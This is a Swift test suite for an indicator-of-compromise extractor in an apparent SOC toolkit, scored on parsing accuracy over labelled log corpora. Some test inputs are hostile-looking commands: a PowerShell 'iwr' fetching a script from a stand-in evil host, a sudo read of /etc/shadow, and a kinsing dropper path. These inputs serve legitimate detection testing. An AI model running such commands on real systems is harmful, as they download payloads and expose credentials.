import Foundation
import SOCModel
import SOCParsers
import Testing

@Suite struct IndicatorExtractorTests {
    @Test func readsTheSeedEvent() {
        let found = IndicatorExtractor.extract(
            "Failed login attempt from 45.142.212.61 for user 'admin' at 2024-02-04 10:15:23"
        )
        #expect(found.ips == ["45.142.212.61"])
        #expect(found.users == ["admin"])
        #expect(found.timestamps == ["2024-02-04T10:15:23Z"])
        #expect(found.domains.isEmpty && found.hosts.isEmpty && found.paths.isEmpty)
    }

    @Test func refangsDefangedIndicators() {
        let found = IndicatorExtractor.extract(
            "C2 at hxxps[:]//update-check[.]xyz/gate.php and 185.220.101[.]4; phish from billing[@]pay-secure[.]top"
        )
        #expect(found.urls == ["https://update-check.xyz/gate.php"])
        #expect(found.domains == ["pay-secure.top", "update-check.xyz"])
        #expect(found.ips == ["185.220.101.4"])
        #expect(found.emails == ["billing@pay-secure.top"])
    }

    @Test func fileNamesNamespacesAndVersionsAreNotIndicators() {
        let found = IndicatorExtractor.extract(
            "svchost.exe loaded payload.dll and ran install.sh, backup.zip, System.Management.Automation, System.IO; build 10.0.19041.1, v1.2.3.4, Chrome/120.0.0.0, MAC 52:54:00:65:43:21:08:00, {6F9619FF-8B86-D011-B42D-00C04FC964FF}"
        )
        #expect(found.domains.isEmpty)
        #expect(found.ips.isEmpty)
        #expect(found.hashes.isEmpty)
    }

    @Test func tellsAddressKindsAndBlocksApart() throws {
        let found = IndicatorExtractor.extract(
            "from 2001:DB8::1 and [fe80::1%eth0]:22, ::1, ::ffff:10.0.0.1, 10.0.0.0/8, fd00::/8, 8.8.8.8:53 at 10:15:23"
        )
        #expect(found.ips == ["2001:db8::1", "fe80::1", "::1", "::ffff:10.0.0.1", "10.0.0.0/8", "fd00::/8", "8.8.8.8"])
        #expect(IPAddress("8.8.8.8")?.scope == .public)
        #expect(IPAddress("10.1.2.3")?.scope == .private)
        #expect(IPAddress("127.0.0.1")?.scope == .loopback)
        #expect(IPAddress("fe80::1")?.scope == .linkLocal)
        #expect(IPAddress("203.0.113.9")?.scope == .reserved)
        #expect(IPAddress("224.0.0.251")?.scope == .multicast)
    }

    @Test func tellsHashKindsApartAndLowersThem() {
        let md5 = "44D88612FEA8A8F36DE82E1278ABB02F"
        let sha1 = "3395856ce81f2b7382dee72602f798b642f14140"
        let sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
        let found = IndicatorExtractor.extract("Hashes=MD5=\(md5),SHA1=\(sha1),SHA256=\(sha256)")
        #expect(found.hashes == [md5.lowercased(), sha1, sha256])
        #expect(found.hashes.map { HashKind(hexLength: $0.count) } == [.md5, .sha1, .sha256])
        // auditd hex-encodes commands: printable hex is text, not a hash.
        #expect(
            IndicatorExtractor.extract("cmd=74657374202D66202F7661722F6C6F672F61756469742F61756469742E6C6F67").hashes
                .isEmpty
        )
    }

    @Test func readsAccountsAndHostsFromTheirContext() {
        let ssh = IndicatorExtractor.extract(
            "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2"
        )
        #expect(ssh.users == ["webmaster"])
        #expect(ssh.hosts == ["labsz"])
        let windows = IndicatorExtractor.extract(
            #"CORP\jdoe logged on to WS-042 as svc_backup@corp.example.com; NT AUTHORITY\SYSTEM; HKLM\Software\Run"#
        )
        #expect(windows.users == ["jdoe", "SYSTEM"])
        let pam = IndicatorExtractor.extract(
            "authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=gw.example.net  user=root"
        )
        #expect(pam.users == ["root"])
        #expect(pam.hosts == ["gw.example.net"])
        #expect(pam.domains == ["gw.example.net"])
        let sudo = IndicatorExtractor.extract(
            "sudo:     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow"
        )
        #expect(Set(sudo.users) == ["bob", "root"])
        #expect(sudo.paths == ["/home/bob", "/bin/cat", "/etc/shadow"])
        let login = IndicatorExtractor.extract("ssh admin@10.0.0.7 then jdoe@WORKSTATION1")
        #expect(login.users == ["admin", "jdoe"])
        #expect(login.ips == ["10.0.0.7"])
        #expect(login.hosts == ["workstation1"])
        #expect(login.emails.isEmpty)
        // A host named in a sentence, as alerts write it; an ordinary word after "on host" is not one.
        #expect(
            IndicatorExtractor.extract("LSASS memory read on host PC04.example.corp at 2019-03-17 19:37:11").hosts == [
                "pc04.example.corp"
            ]
        )
        #expect(IndicatorExtractor.extract("Lateral movement from host WS-7 to host DC01.").hosts == ["ws-7", "dc01"])
        #expect(IndicatorExtractor.extract("Malware seen on host the night before").hosts.isEmpty)
    }

    @Test func normalizesTimestampsToUTC() {
        let found = IndicatorExtractor.extract(
            "2024-01-01T10:00:00+02:00 [10/Oct/2023:13:55:36 -0700] Mon, 05 Feb 2024 14:30:00 +0100 Fri Jun 17 07:07:00 2005 epoch 1551485405 Dec 10 06:55:46"
        )
        #expect(
            found.timestamps == [
                "2024-01-01T08:00:00Z", "2023-10-10T20:55:36Z", "2024-02-05T13:30:00Z", "2005-06-17T07:07:00Z",
            ]
        )
    }

    @Test func readsWindowsUNCAndUnixPaths() {
        let found = IndicatorExtractor.extract(
            #"cmd.exe /c copy \\fileserver\share\tools\x.ps1 C:\Users\Public\x.ps1 && chmod +x /tmp/.x/kinsing; reg add HKCU\Software\Run"#
        )
        #expect(found.paths == [#"\\fileserver\share\tools\x.ps1"#, #"C:\Users\Public\x.ps1"#, "/tmp/.x/kinsing"])
        // JSON escapes backslashes; the path is reported as Windows writes it.
        let json = IndicatorExtractor.extract(
            #"{"NewProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": ".\\rundll32 x"}"#
        )
        #expect(json.paths == [#"C:\Windows\System32\cmd.exe"#])
    }

    @Test func hostileInputIsScannedWithoutCrashing() {
        let long =
            String(repeating: "1.", count: 200_000) + String(repeating: "a", count: 100_000) + "@"
            + String(repeating: ":", count: 50_000)
        _ = IndicatorExtractor.extract(long)
        let invalid = String(decoding: [0xFF, 0xFE, 0x31, 0x2E, 0x32, 0x2E, 0x33, 0x2E, 0x34, 0xC0], as: UTF8.self)
        #expect(IndicatorExtractor.extract(invalid).ips == ["1.2.3.4"])
        #expect(IndicatorExtractor.extract("").isEmpty)
    }

    @Test func readsAnEventsFieldsAndMessage() throws {
        var event = SecurityEvent(id: EventIdentifier(record: "x"), original: "x")
        event.timestamp = Timestamp(year: 2024, month: 2, day: 4, hour: 10, minute: 15, second: 23)
        event.set(ECSField.sourceIP, "45.142.212.61")
        event.set(ECSField.userName, "admin")
        event.set(ECSField.hostName, "DC01")
        event.set(ECSField.processExecutable, #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#)
        event.set(ECSField.processCommandLine, "powershell -enc ... -c iwr hxxp://evil[.]example[.]com/a.ps1")
        let found = IndicatorExtractor.extract(from: event)
        #expect(found.ips == ["45.142.212.61"])
        #expect(found.users == ["admin"])
        #expect(found.hosts == ["dc01"])
        #expect(found.timestamps == ["2024-02-04T10:15:23Z"])
        #expect(found.urls == ["http://evil.example.com/a.ps1"])
        #expect(found.domains == ["evil.example.com"])
        #expect(found.paths == [#"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#])
    }
}

/// Precision and recall over hand-labelled corpora of real log lines and analyst text
/// (`Fixtures/indicators`, conventions in its README; peers scored by `scripts/compare-ioc-peers.py`).
@Suite(.enabled(if: Support.sharedData != nil, "needs ../shared/data or SOCAGENT_TEST_DATA"))
struct IndicatorCorpusTests {
    struct Score {
        var truePositives = 0
        var falsePositives = 0
        var falseNegatives = 0
        var misses: [String] = []
        var precision: Double { Double(truePositives) / Double(max(1, truePositives + falsePositives)) }
        var recall: Double { Double(truePositives) / Double(max(1, truePositives + falseNegatives)) }
    }

    static func score(_ corpus: String) throws -> Score {
        let text = try String(contentsOfFile: Support.fixture("indicators/" + corpus), encoding: .utf8)
        var score = Score()
        var files: [String: [String]] = [:]
        for line in text.split(separator: "\n") where !line.isEmpty {
            let entry = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
            let input: String
            if let inline = entry["text"] as? String {
                input = inline
            } else {
                let source = try #require(entry["source"] as? String)
                let number = try #require(entry["line"] as? Int)
                if files[source] == nil {
                    let content = try String(contentsOfFile: Support.data(source), encoding: .utf8)
                    // By bytes: Swift reads `\r\n` as one character.
                    files[source] = content.utf8.split(separator: 0x0A, omittingEmptySubsequences: false)
                        .map { String(decoding: $0, as: UTF8.self) }
                }
                let lines = try #require(files[source])
                try #require(number >= 1 && number <= lines.count, "\(source) has no line \(number)")
                input = lines[number - 1].hasSuffix("\r") ? String(lines[number - 1].dropLast()) : lines[number - 1]
            }
            let expected = entry["expect"] as? [String: [String]] ?? [:]
            let found = IndicatorExtractor.extract(input)
            for (kind, values) in found.lists {
                func normalized(_ list: [String]) -> Set<String> {
                    Set(
                        list.map {
                            kind == "timestamps"
                                ? $0.replacingOccurrences(of: #"\.0+Z$"#, with: "Z", options: .regularExpression) : $0
                        }
                    )
                }
                let want = normalized(expected[kind] ?? [])
                let got = normalized(values)
                score.truePositives += want.intersection(got).count
                score.falsePositives += got.subtracting(want).count
                score.falseNegatives += want.subtracting(got).count
                if want != got {
                    score.misses.append(
                        "\(kind): expected \(want.sorted()) got \(got.sorted()) in \(input.prefix(120))"
                    )
                }
            }
        }
        return score
    }

    /// The corpus the extractor was tuned on (175 texts, 552 indicators).
    @Test func tuningCorpus() throws {
        let score = try Self.score("corpus.jsonl")
        print(
            "indicators, corpus.jsonl: precision \(String(format: "%.3f", score.precision)), recall \(String(format: "%.3f", score.recall)) (\(score.truePositives) found, \(score.falsePositives) wrong, \(score.falseNegatives) missed)"
        )
        #expect(score.truePositives > 500)
        #expect(score.precision >= 0.98, "\(score.misses.joined(separator: "\n"))")
        #expect(score.recall >= 0.98, "\(score.misses.joined(separator: "\n"))")
    }

    /// Alerts as analysts write them, hosts and accounts named in prose (`on HOST`, `by USER`, `user 'X'`,
    /// `account X`), with sentences where those words name nothing (12 texts).
    @Test func proseCorpus() throws {
        let score = try Self.score("prose.jsonl")
        print(
            "indicators, prose.jsonl: precision \(String(format: "%.3f", score.precision)), recall \(String(format: "%.3f", score.recall)) (\(score.truePositives) found, \(score.falsePositives) wrong, \(score.falseNegatives) missed)"
        )
        #expect(score.precision >= 0.95, "\(score.misses.joined(separator: "\n"))")
        #expect(score.recall >= 0.95, "\(score.misses.joined(separator: "\n"))")
    }

    /// A second corpus labelled independently after tuning and never tuned on (96 texts, 318 indicators):
    /// 0.990 precision, 0.969 recall when first measured.
    @Test func heldOutCorpus() throws {
        let score = try Self.score("heldout.jsonl")
        print(
            "indicators, heldout.jsonl: precision \(String(format: "%.3f", score.precision)), recall \(String(format: "%.3f", score.recall)) (\(score.truePositives) found, \(score.falsePositives) wrong, \(score.falseNegatives) missed)"
        )
        #expect(score.truePositives > 280)
        #expect(score.precision >= 0.95, "\(score.misses.joined(separator: "\n"))")
        #expect(score.recall >= 0.95, "\(score.misses.joined(separator: "\n"))")
    }
}

/// Extraction from parsed events: SigmaHQ's regression events (Sysmon and Security EVTX as JSON).
@Suite(.enabled(if: Support.sharedData != nil, "needs ../shared/data or SOCAGENT_TEST_DATA"))
struct EventIndicatorTests {
    @Test func readsASysmonProcessCreation() throws {
        let path = Support.data(
            "sigma/regression_data/rules/windows/process_creation/proc_creation_win_curl_custom_user_agent/85de1f22-d189-44e4-8239-dc276b45379b.json"
        )
        let event = try #require(try Support.read(path).events.first)
        let found = IndicatorExtractor.extract(from: event)
        #expect(found.hosts == ["swachchhanda"])
        #expect(found.users.contains("xodih"))
        #expect(found.hashes.contains("dbb2d090d2098b2b995fa067fdef839f"))
        #expect(found.hashes.contains("8955d2a45404a59c2e3772f3c76aeeae48aedf100be328c003d7a4df5342b491"))
        #expect(found.urls == ["http://example.com"])
        #expect(found.domains == ["example.com"])
        #expect(found.paths.contains(#"C:\Windows\System32\curl.exe"#))
        #expect(found.timestamps == ["2025-12-11T06:17:19.772545Z"])
    }

    @Test func everyRegressionEventGivesItsHostAndTime() throws {
        let root = Support.data("sigma/regression_data")
        let files = try FileManager.default.subpathsOfDirectory(atPath: root).filter { $0.hasSuffix(".json") }
        var events = 0
        var withHost = 0
        var withTime = 0
        var totals: [String: Int] = [:]
        for file in files {
            for event in try Support.read(root + "/" + file).events {
                let found = IndicatorExtractor.extract(from: event)
                events += 1
                if !found.hosts.isEmpty { withHost += 1 }
                if !found.timestamps.isEmpty { withTime += 1 }
                for (kind, values) in found.lists { totals[kind, default: 0] += values.count }
            }
        }
        print(
            "indicators in \(events) Sigma regression events: \(totals.sorted { $0.key < $1.key }.map { "\($0.key) \($0.value)" }.joined(separator: ", "))"
        )
        #expect(events >= 200)
        #expect(withHost == events)
        #expect(withTime == events)
        #expect(totals["paths", default: 0] >= events)
        #expect(totals["hashes", default: 0] > 50)
    }
}
